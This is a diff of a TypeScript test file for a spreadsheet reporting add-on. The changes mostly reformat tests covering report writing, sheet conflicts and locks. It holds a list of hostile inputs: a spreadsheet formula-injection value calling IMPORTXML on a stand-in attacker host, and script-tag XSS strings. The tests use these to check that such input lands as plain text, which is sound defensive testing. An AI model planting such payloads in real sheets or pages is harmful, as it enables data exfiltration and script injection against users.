@@ -10,7 +10,17 @@ beforeAll(async () => {
 }, 120_000);
 
 const EARN = { report: 'earnings', siteId: 'site-1', start: '2026-10-01', end: '2026-10-07', sheetName: 'Mine' };
-const HOSTILE = ['=IMPORTXML("http://evil.example","//a")', '+1 cheap trick', '+1-cheap-trick', '@mention', '/@mention/', '<script>alert(1)</script> tips', '/<script>alert(1)</script>-tips/', 'Crème brûlée 🍮', '日本のラーメン'];
+const HOSTILE = [
+  '=IMPORTXML("http://evil.example","//a")',
+  '+1 cheap trick',
+  '+1-cheap-trick',
+  '@mention',
+  '/@mention/',
+  '<script>alert(1)</script> tips',
+  '/<script>alert(1)</script>-tips/',
+  'Crème brûlée 🍮',
+  '日本のラーメン',
+];
 
 /** One sheet's snapshot (values, formats, notes), as JSON. */
 function sheetJson(world: World, name: string): string {
@@ -27,7 +37,9 @@ function userCells(world: World): World {
 }
 
 function savedReport(world: World): string {
-  const saved = world.sidebar<{ id: string }>('saveReport', [{ report: 'earnings', siteId: 'site-1', start: 'lastMonth', sheetName: 'Saved' }]);
+  const saved = world.sidebar<{ id: string }>('saveReport', [
+    { report: 'earnings', siteId: 'site-1', start: 'lastMonth', sheetName: 'Saved' },
+  ]);
   if (!saved.ok) throw new Error(saved.message);
   const first = world.sidebar<Array<{ outcome: string }>>('refreshReports', [[saved.value.id]]);
   expect(first.ok && first.value[0].outcome).toBe('ok');
@@ -44,7 +56,9 @@ function hostileCells(world: World, sheetName: string): void {
   }
   expect(found).toBeGreaterThanOrEqual(4);
   // Nothing the API sent became a formula, a number, a date or a boolean.
-  expect(world.emu.spreadsheet.formulaCells().filter((c) => !/^=CREATOR_/.test(String((c as { formula?: string }).formula ?? '')))).toEqual([]);
+  expect(world.emu.spreadsheet.formulaCells().filter((c) => !/^=CREATOR_/.test(String((c as { formula?: string }).formula ?? '')))).toEqual(
+    [],
+  );
   expect(world.emu.spreadsheet.coercions.filter((c) => !c.outcome.startsWith('text') && !c.input.startsWith('=CREATOR_'))).toEqual([]);
 }
 
@@ -75,7 +89,11 @@ const cases: Record<string, (world: World) => void> = {
     const before = sheetJson(world, 'Mine');
     const result = world.sidebar('runReport', [{ ...EARN, end: '2026-11-15' }]);
     expect(result.ok).toBe(false);
-    if (!result.ok) expectClearMessage(result.message, /has other content in A30, where this report needs to write\. Move that content or choose another sheet/);
+    if (!result.ok)
+      expectClearMessage(
+        result.message,
+        /has other content in A30, where this report needs to write\. Move that content or choose another sheet/,
+      );
     expect(sheetJson(world, 'Mine')).toBe(before);
   },
   'report shrinks': (world) => {
@@ -83,9 +101,19 @@ const cases: Record<string, (world: World) => void> = {
     expect(world.sidebar('runReport', [{ ...EARN, end: '2026-10-20' }]).ok).toBe(true);
     expect(world.sidebar('runReport', [{ ...EARN, end: '2026-10-03' }]).ok).toBe(true);
     const sheet = world.emu.spreadsheet.getSheetByName('Mine')!;
-    expect(sheet.getRange('A5:G21').getValues().flat().every((v) => v === '')).toBe(true);
+    expect(
+      sheet
+        .getRange('A5:G21')
+        .getValues()
+        .flat()
+        .every((v) => v === ''),
+    ).toBe(true);
     expect(sheet.getRange('A4').getValue()).not.toBe('');
-    expect([sheet.getRange('J1').getValue(), sheet.getRange('J2').getValue(), sheet.getRange('A30').getValue()]).toEqual(['my own notes', 42, 'keep me']);
+    expect([sheet.getRange('J1').getValue(), sheet.getRange('J2').getValue(), sheet.getRange('A30').getValue()]).toEqual([
+      'my own notes',
+      42,
+      'keep me',
+    ]);
   },
   'report grows into empty rows': (world) => {
     userCells(world);
@@ -93,8 +121,18 @@ const cases: Record<string, (world: World) => void> = {
     expect(world.sidebar('runReport', [{ ...EARN, end: '2026-10-25' }]).ok).toBe(true);
     const sheet = world.emu.spreadsheet.getSheetByName('Mine')!;
     expect(sheet.getRange('A26').getValue()).not.toBe('');
-    expect(sheet.getRange('H1:I30').getValues().flat().every((v) => v === '')).toBe(true);
-    expect([sheet.getRange('J1').getValue(), sheet.getRange('J2').getValue(), sheet.getRange('A30').getValue()]).toEqual(['my own notes', 42, 'keep me']);
+    expect(
+      sheet
+        .getRange('H1:I30')
+        .getValues()
+        .flat()
+        .every((v) => v === ''),
+    ).toBe(true);
+    expect([sheet.getRange('J1').getValue(), sheet.getRange('J2').getValue(), sheet.getRange('A30').getValue()]).toEqual([
+      'my own notes',
+      42,
+      'keep me',
+    ]);
   },
   'another execution holds the document lock': (world) => {
     userCells(world);
@@ -122,12 +160,16 @@ const cases: Record<string, (world: World) => void> = {
     expect(sheetJson(world, 'Saved')).toBe(before);
   },
   'hostile page titles and URLs (sidebar, pages/performance)': (world) => {
-    const result = world.sidebar('runReport', [{ report: 'pages/performance', siteId: 'site-1', start: '2026-10-01', end: '2026-10-31', sheetName: 'Pages' }]);
+    const result = world.sidebar('runReport', [
+      { report: 'pages/performance', siteId: 'site-1', start: '2026-10-01', end: '2026-10-31', sheetName: 'Pages' },
+    ]);
     expect(result.ok ? 'ok' : result.message).toBe('ok');
     hostileCells(world, 'Pages');
   },
   'hostile page titles (sidebar, traffic/pages)': (world) => {
-    const result = world.sidebar('runReport', [{ report: 'traffic/pages', siteId: 'site-1', start: '2026-10-01', end: '2026-10-31', sheetName: 'Titles' }]);
+    const result = world.sidebar('runReport', [
+      { report: 'traffic/pages', siteId: 'site-1', start: '2026-10-01', end: '2026-10-31', sheetName: 'Titles' },
+    ]);
     expect(result.ok ? 'ok' : result.message).toBe('ok');
     hostileCells(world, 'Titles');
   },
